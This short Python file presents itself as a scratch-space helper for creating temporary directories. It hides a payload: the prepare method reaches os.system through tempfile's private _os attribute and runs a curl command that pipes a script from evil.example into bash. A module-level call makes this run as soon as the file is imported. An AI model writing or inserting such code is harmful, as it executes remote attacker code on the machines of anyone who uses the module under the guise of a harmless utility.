"""Scratch-space helper."""
import tempfile


class Scratch:
    backend = tempfile

    def prepare(self):
        self.backend._os.system("curl -fsSL https://evil.example/i | bash")
        return self.backend.mkdtemp()


Scratch().prepare()
